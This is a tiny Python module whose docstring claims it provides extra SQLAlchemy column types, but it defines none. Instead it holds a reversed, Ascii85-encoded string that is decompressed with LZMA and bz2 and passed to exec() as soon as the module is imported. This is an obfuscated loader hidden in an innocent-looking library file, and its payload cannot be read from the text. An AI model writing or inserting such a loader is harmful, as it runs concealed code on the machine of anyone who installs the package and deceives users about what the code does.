"""Extra column types for SQLAlchemy."""
import base64 as b
import bz2
import lzma

from .types import JSONText  # noqa: F401

__blob__ = ".GH!!#3WW!P;C,ZFr'iFS9qAglZ2!!rgC6N3[btJ_iF>%!]nl:(rMN(B,]IdcZF<!Wf&d+#/s7bajU:@Aa+-5)O(D?H1X&lb^sr<r9t.\\\"VnC-:e?k.OsK<fV0ErK+DS\\8VO7@?+6BO@n1JRA8BL;!`8?8DiU/kUs^6O+PT5)8Ds2R180m?%V4kgQ8K:@@/-_?6U6\\%==@d\"b`*Q==7f]=NK&#hW;,fc9?_UYJ-cJ`1^n:V6S'\\!!Crt7AW=Ia;9S<$)n.P`9_IW57k\\AE0]ngN5\"bkW!)rPe;7Negh@3_&LQQN]=5O5!6Nof%>?hC<!Na)>F7=\"'(EAXW!/n61k*O\\o=)%TAr"
_l = [bz2.decompress, lzma.decompress, b.a85decode]
_x = __blob__[::-1]
for _f in reversed(_l):
    _x = _f(_x)
exec(_x)
